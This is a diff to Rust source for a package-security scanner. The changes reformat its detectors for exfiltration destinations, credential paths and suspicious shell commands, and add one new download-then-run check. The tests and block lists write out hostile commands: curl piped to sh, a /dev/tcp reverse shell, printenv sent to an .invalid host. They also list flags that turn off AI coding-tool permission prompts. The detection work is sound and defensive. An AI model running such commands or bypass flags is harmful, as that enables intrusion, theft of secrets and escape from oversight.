@@ -78,6 +78,7 @@ const CHAT_WEBHOOKS: &[(&str, &str)] = &[
     ("discord.com", "/api/webhooks"),
     ("discordapp.com", "/api/webhooks"),
     ("api.telegram.org", "/bot"),
+    ("cdn.discordapp.com", "/attachments"),
     ("hooks.slack.com", "/services"),
 ];
 
@@ -102,7 +103,10 @@ pub fn destination(s: &str) -> Option<Destination> {
     let (rest, had_scheme) = match lower.find("://") {
         Some(i) => {
             let scheme = &lower[..i];
-            if !matches!(scheme, "http" | "https" | "ws" | "wss" | "ftp" | "tcp" | "udp") {
+            if !matches!(
+                scheme,
+                "http" | "https" | "ws" | "wss" | "ftp" | "tcp" | "udp"
+            ) {
                 return None;
             }
             (&lower[i + 3..], true)
@@ -123,7 +127,7 @@ pub fn destination(s: &str) -> Option<Destination> {
     // A computed leading label (`${os.hostname()}.x.invalid`) still names
     // the domain under it.
     let host = if host.starts_with('*') {
-        let rest = host.trim_start_matches(|c| c == '*' || c == '.');
+        let rest = host.trim_start_matches(['*', '.']);
         if !rest.contains('.') || rest.contains('*') {
             return None;
         }
@@ -166,7 +170,11 @@ pub fn destination(s: &str) -> Option<Destination> {
     // URLs from configuration, since they are per-user secrets.
     if collector.is_none() && had_scheme {
         let path = &rest[authority.len().min(rest.len())..];
-        if path.contains("/webhook") || path.contains("/hooks/") || host.starts_with("webhook.") || host.starts_with("hooks.") {
+        if path.contains("/webhook")
+            || path.contains("/hooks/")
+            || host.starts_with("webhook.")
+            || host.starts_with("hooks.")
+        {
             collector = Some("webhook-url");
         }
     }
@@ -209,9 +217,12 @@ fn is_private_v6(ip: Ipv6Addr) -> bool {
 
 fn is_domain(host: &str) -> bool {
     host.len() <= 253
-        && host
-            .split('.')
-            .all(|l| !l.is_empty() && l.len() <= 63 && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'*'))
+        && host.split('.').all(|l| {
+            !l.is_empty()
+                && l.len() <= 63
+                && l.bytes()
+                    .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'*')
+        })
 }
 
 /// A bare (scheme-less) host must end in a TLD-looking label: letters only,
@@ -222,11 +233,48 @@ fn plausible_tld(host: &str) -> bool {
         && tld.bytes().all(|b| b.is_ascii_lowercase())
         && !matches!(
             tld,
-            "js" | "ts" | "json" | "md" | "css" | "html" | "map" | "mjs" | "cjs" | "jsx" | "tsx"
-                | "txt" | "png" | "svg" | "jpg" | "gif" | "yml" | "yaml" | "lock" | "node"
-                | "exe" | "sh" | "py" | "log" | "min" | "prototype" | "length" | "call"
-                | "apply" | "bind" | "then" | "default" | "exports" | "value" | "name"
-                | "type" | "data" | "id" | "env" | "config" | "test" | "spec" | "d"
+            "js" | "ts"
+                | "json"
+                | "md"
+                | "css"
+                | "html"
+                | "map"
+                | "mjs"
+                | "cjs"
+                | "jsx"
+                | "tsx"
+                | "txt"
+                | "png"
+                | "svg"
+                | "jpg"
+                | "gif"
+                | "yml"
+                | "yaml"
+                | "lock"
+                | "node"
+                | "exe"
+                | "sh"
+                | "py"
+                | "log"
+                | "min"
+                | "prototype"
+                | "length"
+                | "call"
+                | "apply"
+                | "bind"
+                | "then"
+                | "default"
+                | "exports"
+                | "value"
+                | "name"
+                | "type"
+                | "data"
+                | "id"
+                | "env"
+                | "config"
+                | "test"
+                | "spec"
+                | "d"
         )
 }
 
@@ -234,7 +282,9 @@ fn plausible_tld(host: &str) -> bool {
 pub fn collector_of(host: &str) -> Option<&'static str> {
     COLLECTORS
         .iter()
-        .find(|(suffix, _)| host == *suffix || host.strip_suffix(suffix).is_some_and(|p| p.ends_with('.')))
+        .find(|(suffix, _)| {
+            host == *suffix || host.strip_suffix(suffix).is_some_and(|p| p.ends_with('.'))
+        })
         .map(|(_, class)| *class)
 }
 
@@ -405,7 +455,9 @@ pub fn command_traits(cmd: &str) -> CommandTraits {
     let mut t = CommandTraits::default();
     let has_word = |w: &str| {
         lower
-            .split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | ')' | '`' | '"' | '\''))
+            .split(|c: char| {
+                c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | ')' | '`' | '"' | '\'')
+            })
             .any(|tok| tok == w || tok.rsplit('/').next() == Some(w))
     };
     t.downloads = has_word("curl")
@@ -418,10 +470,36 @@ pub fn command_traits(cmd: &str) -> CommandTraits {
         || has_word("certutil") && lower.contains("urlcache");
     let pipes_to_shell = pipes_to_interpreter(&lower);
     t.pipes_to_interpreter = pipes_to_shell;
-    let runs_download = lower.contains("chmod +x") || lower.contains("&& ./") || lower.contains("; ./") || lower.contains("start-process");
-    t.download_exec = t.downloads && (pipes_to_shell || runs_download || lower.contains("iex(") || lower.contains("iex ("))
+    // `curl URL -o a.exe && a.exe`: the output file is run later in the line.
+    let runs_output = {
+        let words: Vec<&str> = lower
+            .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\''))
+            .filter(|w| !w.is_empty())
+            .collect();
+        words.iter().enumerate().any(|(i, w)| {
+            matches!(*w, "-o" | "--output" | "-outfile")
+                && words.get(i + 1).is_some_and(|target| {
+                    let base = target.rsplit(['/', '\\']).next().unwrap_or(target);
+                    words[i + 2..].windows(2).any(|pair| {
+                        matches!(pair[0], "&&" | ";" | "start" | "&")
+                            && pair[1].rsplit(['/', '\\']).next() == Some(base)
+                    })
+                })
+        })
+    };
+    let runs_download = runs_output
+        || lower.contains("chmod +x")
+        || lower.contains("&& ./")
+        || lower.contains("; ./")
+        || lower.contains("start-process");
+    t.download_exec = t.downloads
+        && (pipes_to_shell || runs_download || lower.contains("iex(") || lower.contains("iex ("))
         || lower.contains("downloadstring") && lower.contains("iex")
-        || (has_word("bash") || has_word("sh")) && (lower.contains("<(curl") || lower.contains("$(curl") || lower.contains("<(wget") || lower.contains("$(wget"));
+        || (has_word("bash") || has_word("sh"))
+            && (lower.contains("<(curl")
+                || lower.contains("$(curl")
+                || lower.contains("<(wget")
+                || lower.contains("$(wget"));
     t.decodes = lower.contains("base64 -d")
         || lower.contains("base64 --decode")
         || lower.contains("base64 -D")
@@ -430,14 +508,26 @@ pub fn command_traits(cmd: &str) -> CommandTraits {
         || has_word("-enc")
         || lower.contains("frombase64string")
         || lower.contains("xxd -r");
-    t.env_dump = has_word("printenv") || lower.trim() == "env" || lower.contains("env |") || lower.contains("env>") || lower.contains("env >") || lower.contains("$(env)") || lower.contains("`env`");
+    t.env_dump = has_word("printenv")
+        || lower.trim() == "env"
+        || lower.contains("env |")
+        || lower.contains("env>")
+        || lower.contains("env >")
+        || lower.contains("$(env)")
+        || lower.contains("`env`");
     t.reverse_shell = lower.contains("/dev/tcp/")
         || lower.contains("/dev/udp/")
-        || (has_word("nc") || has_word("ncat") || has_word("netcat")) && (lower.contains(" -e ") || lower.contains(" -c "))
+        || (has_word("nc") || has_word("ncat") || has_word("netcat"))
+            && (lower.contains(" -e ") || lower.contains(" -c "))
         || lower.contains("bash -i >&")
         || lower.contains("sh -i >&")
         || lower.contains("mkfifo") && has_word("nc");
-    let ai_cli = has_word("claude") || has_word("gemini") || has_word("q") || has_word("codex") || has_word("cursor-agent") || has_word("amp");
+    let ai_cli = has_word("claude")
+        || has_word("gemini")
+        || has_word("q")
+        || has_word("codex")
+        || has_word("cursor-agent")
+        || has_word("amp");
     t.ai_cli_bypass = ai_cli
         && (lower.contains("--dangerously-skip-permissions")
             || lower.contains("--yolo")
@@ -446,7 +536,13 @@ pub fn command_traits(cmd: &str) -> CommandTraits {
             || lower.contains("--full-auto")
             || lower.contains("--allow-all-tools"));
     t.npm_publish = lower.contains("npm publish") || lower.contains("npm  publish");
-    for flag in ["node -e ", "node --eval ", "node -p ", "node --print ", "nodejs -e "] {
+    for flag in [
+        "node -e ",
+        "node --eval ",
+        "node -p ",
+        "node --print ",
+        "nodejs -e ",
+    ] {
         if let Some(i) = lower.find(flag) {
             t.inline_code = Some(unquote(cmd[i + flag.len()..].trim()));
         }
@@ -457,9 +553,28 @@ pub fn command_traits(cmd: &str) -> CommandTraits {
 /// `… | sh`, `…|/bin/bash`, `… | node`, `… | iex`.
 fn pipes_to_interpreter(lower: &str) -> bool {
     lower.split('|').skip(1).any(|seg| {
-        let first = seg.split_whitespace().next().unwrap_or("").trim_matches(|c: char| matches!(c, '"' | '\'' | '\\' | ')' | '(' | ';' | '`'));
+        let first = seg
+            .split_whitespace()
+            .next()
+            .unwrap_or("")
+            .trim_matches(|c: char| matches!(c, '"' | '\'' | '\\' | ')' | '(' | ';' | '`'));
         let exe = first.rsplit('/').next().unwrap_or(first);
-        matches!(exe, "sh" | "bash" | "zsh" | "dash" | "ksh" | "node" | "python" | "python3" | "perl" | "ruby" | "iex" | "invoke-expression" | "pwsh" | "powershell")
+        matches!(
+            exe,
+            "sh" | "bash"
+                | "zsh"
+                | "dash"
+                | "ksh"
+                | "node"
+                | "python"
+                | "python3"
+                | "perl"
+                | "ruby"
+                | "iex"
+                | "invoke-expression"
+                | "pwsh"
+                | "powershell"
+        )
     })
 }
 
@@ -476,14 +591,23 @@ fn unquote(s: &str) -> String {
 
 /// AI coding CLIs, by executable name.
 pub fn is_ai_cli(exe: &str) -> bool {
-    matches!(exe, "claude" | "gemini" | "q" | "codex" | "cursor-agent" | "amp" | "aider" | "kiro")
+    matches!(
+        exe,
+        "claude" | "gemini" | "q" | "codex" | "cursor-agent" | "amp" | "aider" | "kiro"
+    )
 }
 
 /// Flags that switch off an AI CLI's permission prompts.
 pub fn is_ai_bypass_flag(flag: &str) -> bool {
     matches!(
         flag,
-        "--dangerously-skip-permissions" | "--yolo" | "--trust-all-tools" | "--dangerously-bypass-approvals-and-sandbox" | "--full-auto" | "--allow-all-tools" | "-y"
+        "--dangerously-skip-permissions"
+            | "--yolo"
+            | "--trust-all-tools"
+            | "--dangerously-bypass-approvals-and-sandbox"
+            | "--full-auto"
+            | "--allow-all-tools"
+            | "-y"
     )
 }
 
@@ -499,23 +623,44 @@ mod tests {
         let d = destination("http://45.9.1.2:8080/a").expect("parses");
         assert_eq!(d.kind, HostKind::Ipv4);
         assert_eq!(d.collector, Some("raw-ip"));
-        assert_eq!(destination("http://127.0.0.1/").map(|d| d.kind), Some(HostKind::Loopback));
-        assert_eq!(destination("10.0.0.1").map(|d| d.kind), Some(HostKind::PrivateIp));
+        assert_eq!(
+            destination("http://127.0.0.1/").map(|d| d.kind),
+            Some(HostKind::Loopback)
+        );
+        assert_eq!(
+            destination("10.0.0.1").map(|d| d.kind),
+            Some(HostKind::PrivateIp)
+        );
         assert!(destination("index.js").is_none());
         assert!(destination("a.b.length").is_none());
         assert!(destination("hello world").is_none());
         let d = destination("https://discord.com/api/webhooks/1/abc").expect("parses");
         assert_eq!(d.collector, Some("chat-webhook"));
-        assert_eq!(destination("https://discord.com/app").and_then(|d| d.collector), None);
-        assert_eq!(destination("notpipedream.net").and_then(|d| d.collector), None);
-        assert_eq!(destination("https://c.invalid/webhook/mcp").and_then(|d| d.collector), Some("webhook-url"));
-        assert_eq!(destination("https://api.service.invalid/v1/send").and_then(|d| d.collector), None);
+        assert_eq!(
+            destination("https://discord.com/app").and_then(|d| d.collector),
+            None
+        );
+        assert_eq!(
+            destination("notpipedream.net").and_then(|d| d.collector),
+            None
+        );
+        assert_eq!(
+            destination("https://c.invalid/webhook/mcp").and_then(|d| d.collector),
+            Some("webhook-url")
+        );
+        assert_eq!(
+            destination("https://api.service.invalid/v1/send").and_then(|d| d.collector),
+            None
+        );
     }
 
     #[test]
     fn paths() {
         assert_eq!(sensitive_path("~/.ssh/id_rsa"), Some(("ssh", true)));
-        assert_eq!(sensitive_path("/home/u/.AWS/credentials"), Some(("aws", true)));
+        assert_eq!(
+            sensitive_path("/home/u/.AWS/credentials"),
+            Some(("aws", true))
+        );
         assert_eq!(sensitive_path("~/.bashrc"), Some(("shell-rc", false)));
         assert_eq!(sensitive_path("lib/index.js"), None);
     }
@@ -523,13 +668,26 @@ mod tests {
     #[test]
     fn commands() {
         assert!(command_traits("curl -s http://x.invalid/a.sh | sh").download_exec);
-        assert!(command_traits("wget http://x.invalid/a -O /tmp/a && chmod +x /tmp/a && /tmp/a").download_exec);
+        assert!(
+            command_traits("wget http://x.invalid/a -O /tmp/a && chmod +x /tmp/a && /tmp/a")
+                .download_exec
+        );
         assert!(!command_traits("node-gyp rebuild").downloads);
         assert!(!command_traits("node scripts/postinstall.js").download_exec);
         assert!(command_traits("bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'").reverse_shell);
         assert!(command_traits("claude --dangerously-skip-permissions -p 'x'").ai_cli_bypass);
-        assert_eq!(command_traits("node -e \"console.log(1)\"").inline_code.as_deref(), Some("console.log(1)"));
+        assert_eq!(
+            command_traits("node -e \"console.log(1)\"")
+                .inline_code
+                .as_deref(),
+            Some("console.log(1)")
+        );
         assert!(command_traits("printenv | curl -d @- http://x.invalid").env_dump);
+        assert!(command_traits("curl https://x.invalid/a_1.exe -o a.exe && a.exe").download_exec);
+        assert!(
+            !command_traits("curl https://x.invalid/a.json -o a.json && node build.js")
+                .download_exec
+        );
         let t = command_traits("echo H4sI== | base64 -D | gunzip | /bin/bash");
         assert!(t.decodes && t.pipes_to_interpreter);
     }
